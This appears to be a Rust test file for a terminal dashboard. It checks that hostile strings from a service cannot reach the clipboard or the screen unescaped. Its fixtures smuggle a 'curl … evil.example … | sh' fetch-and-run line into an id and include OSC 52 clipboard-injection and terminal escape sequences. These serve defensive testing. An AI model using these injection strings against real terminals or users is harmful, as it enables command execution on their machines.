//! What a hostile string from the service becomes in the dashboard: `y`
//! refuses an id or URL that a terminal would not paste as it looks, and the
//! OSC 52 payload holds only what was checked (`text::Pasteable`); the
//! plan-gate text and the error log show it escaped.

use crossterm::event::KeyCode;
use serde_json::json;
use vantage::api::model::{EmbedUrl, InventoryPage, Project};
use vantage::text::{Pasteable, is_invisible_or_control};
use vantage::tui::app::App;
use vantage::tui::effect::{Effect, ErrorInfo, Gate};

use crate::common::T0;
use crate::common::items::inventory_item;
use crate::tui::support::{answer, app, asked_in, drawn, inventory_pages, key, special};
use vantage::tui::screens::inventory;
use vantage::tui::screens::project::{PROJECT, WRITE};

/// The id of issue 22, item 5: a shell line after a line break, a screen
/// wipe and a bidi override.
const HOSTILE_ID: &str = "prj_1\ncurl -s http://evil.example/x | sh\n\u{1b}[2J\u{202e}";

fn page_with_ids(ids: &[&str]) -> InventoryPage {
    let items: Vec<_> = ids
        .iter()
        .map(|id| {
            inventory_item(json!({
                "id": id, "name": "Hostile", "is_published": false, "publish_audience": null,
                "edits_30d": 1, "last_edited_at": "2026-11-20T09:30:00Z"
            }))
        })
        .collect();
    serde_json::from_value(json!({
        "data": items, "pagination": {"has_more": false, "next_cursor": null},
        "total": ids.len(), "as_of": null, "activity_as_of": null, "applied_finding": null
    }))
    .unwrap()
}

/// The inventory screen with `reply` answered to its first page.
fn inventory_answering(reply: Result<InventoryPage, ErrorInfo>) -> App {
    let mut app = app();
    app.start(T0);
    let effects = app.handle(key('2'), T0);
    let (token, _) = inventory_pages(&effects)[0].clone();
    app.handle(
        answer(inventory::PAGE, token, reply, inventory::Msg::Page),
        T0,
    );
    app
}

fn screen_text(app: &App) -> String {
    let frame = drawn(app, 120, 35, T0);
    frame
        .buffer()
        .content()
        .iter()
        .map(|cell| cell.symbol())
        .collect()
}

/// Asserts that nothing was copied and the screen says so; the screen.
fn refused_with_a_note(app: &App, effects: &[Effect]) -> String {
    let copied = copies(effects);
    assert!(copied.is_empty(), "copied: {copied:?}");
    let shown = screen_text(app);
    assert!(shown.contains("not copied"), "{shown}");
    shown
}

fn copies(effects: &[Effect]) -> Vec<String> {
    effects
        .iter()
        .filter_map(|effect| match effect {
            Effect::Copy(text) => Some(format!("{text:?}")),
            _ => None,
        })
        .collect()
}

#[test]
fn y_refuses_a_hostile_id_and_says_so() {
    let mut app = inventory_answering(Ok(page_with_ids(&[HOSTILE_ID])));
    let effects = app.handle(key('y'), T0);
    refused_with_a_note(&app, &effects);
}

#[test]
fn y_copies_a_plain_id_and_the_payload_is_that_id_alone() {
    let mut app = inventory_answering(Ok(page_with_ids(&["prj_01HXYZ"])));
    let effects = app.handle(key('y'), T0);
    let copied: Vec<&Pasteable> = effects
        .iter()
        .filter_map(|effect| match effect {
            Effect::Copy(text) => Some(text),
            _ => None,
        })
        .collect();
    assert_eq!(copied.len(), 1);
    let mut payload = Vec::new();
    vantage::tui::runtime::copy_osc52(&mut payload, copied[0]).unwrap();
    // "prj_01HXYZ" in base64, inside one OSC 52 and nothing else.
    assert_eq!(payload, b"\x1b]52;c;cHJqXzAxSFhZWg==\x07");
}

#[test]
fn no_hostile_string_reaches_the_clipboard() {
    for hostile in vantage::hostile::hostile_strings()
        .into_iter()
        .chain([HOSTILE_ID.to_owned()])
    {
        let Ok(text) = Pasteable::new(&hostile) else {
            continue;
        };
        let mut payload = Vec::new();
        vantage::tui::runtime::copy_osc52(&mut payload, &text).unwrap();
        let encoded = &payload[b"\x1b]52;c;".len()..payload.len() - 1];
        use base64::Engine;
        let decoded = base64::engine::general_purpose::STANDARD
            .decode(encoded)
            .unwrap();
        let decoded = String::from_utf8(decoded).unwrap();
        assert!(
            !decoded
                .chars()
                .any(|ch| is_invisible_or_control(ch) || matches!(ch, '\u{200c}' | '\u{200d}')),
            "{decoded:?}"
        );
    }
}

#[test]
fn the_embed_url_copy_refuses_a_hostile_url() {
    let mut app = inventory_answering(Ok(page_with_ids(&["prj_1"])));
    let effects = app.handle(special(KeyCode::Enter), T0);
    let read = asked_in(&effects, PROJECT)[0].clone();
    let project: Project = serde_json::from_value(json!({
        "id": "prj_1", "name": "Hostile", "created_at": "2026-01-05T08:00:00Z",
        "owner_id": "u1", "workspace_id": "ws_test", "is_published": false,
        "visibility": "workspace_edit"
    }))
    .unwrap();
    app.handle(read.ok(project), T0);
    app.handle(key('E'), T0);
    for ch in "intranet.example.com".chars() {
        app.handle(key(ch), T0);
    }
    let effects = app.handle(special(KeyCode::Enter), T0);
    let write = asked_in(&effects, WRITE)[0].clone();
    let embed = EmbedUrl {
        embed_url: "https://embed.example/x\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\n".into(),
        expires_at: T0 + time::Duration::hours(1),
    };
    let effects = app.handle(write.ok(embed), T0);
    let shown = refused_with_a_note(&app, &effects);
    assert!(!shown.contains("copy sent"), "{shown}");
}

/// Every cell of the screen holds visible text only.
fn assert_screen_clean(app: &App) {
    for cell in drawn(app, 120, 35, T0).buffer().content() {
        assert!(
            !cell.symbol().chars().any(is_invisible_or_control),
            "raw {:?} on screen",
            cell.symbol()
        );
    }
}

#[test]
fn the_plan_gate_and_the_error_log_show_hostile_props_escaped() {
    let hostile = "pro\u{2028}\u{e0041}\u{e0001}\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\u{202e}\u{1b}[6n";
    let gates = [
        Gate::Plan(hostile.into()),
        Gate::Features(vec![hostile.into()]),
        Gate::Scopes(vec![hostile.into()]),
        Gate::BlockingFindings(vec![hostile.into()]),
        Gate::Fields(vec![vantage::api::model::FieldError {
            message: hostile.into(),
            location: Some(hostile.into()),
        }]),
    ];
    for gate in gates {
        let explained = gate.explain();
        assert!(
            !explained.chars().any(is_invisible_or_control),
            "{explained:?}"
        );
        let error = ErrorInfo {
            status: Some(402),
            kind: Some(hostile.into()),
            detail: Some(hostile.into()),
            request_id: Some(hostile.into()),
            summary: hostile.into(),
            gate: Some(gate),
            at: T0,
        };
        let mut app = inventory_answering(Err(error));
        assert_screen_clean(&app);
        app.handle(key('!'), T0);
        let shown = screen_text(&app);
        assert!(shown.contains("Error log"), "{shown}");
        assert_screen_clean(&app);
    }
}
